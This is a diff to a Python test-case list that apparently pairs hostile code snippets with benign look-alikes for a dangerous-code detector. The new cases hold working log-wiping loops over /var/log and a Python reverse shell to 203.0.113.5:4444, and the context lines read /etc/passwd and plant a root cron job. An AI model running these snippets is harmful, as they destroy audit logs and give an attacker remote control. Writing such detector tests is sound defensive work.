@@ -132,6 +132,28 @@ CASES: list[tuple[str, str, str]] = [
         "print(open('/etc/passwd').read())",
     ),
     (
+        "logs emptied in a loop over a listing",
+        "from pathlib import Path\nfor p in Path('/var/log').glob('*.log'):\n    p.write_text('')",
+        "import glob, os\nfor f in glob.glob('build/*.o'):\n    os.remove(f)",
+    ),
+    (
+        "logs deleted in a walk",
+        "import os\nfor root, dirs, files in os.walk('/var/log'):\n    for name in files:\n"
+        "        os.remove(os.path.join(root, name))",
+        "import os\nfor root, dirs, files in os.walk('/tmp/cache'):\n    for name in files:\n"
+        "        os.remove(os.path.join(root, name))",
+    ),
+    (
+        "shell handed to another machine",
+        "import socket, subprocess, os\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\n"
+        "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])",
+        # a test that drives a shell and talks to the task's own server on this machine
+        "import subprocess, socket\n"
+        "p = subprocess.Popen(['bash'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"
+        "p.communicate(b'./start-server.sh')\ns = socket.create_connection(('127.0.0.1', 8080))\n"
+        "s.sendall(b'PING')",
+    ),
+    (
         "scheduled task",
         "open('/etc/cron.d/job', 'w').write('* * * * * root /tmp/x\\n')",
         "open('deploy/cron/job.txt', 'w').write('0 * * * * make\\n')",
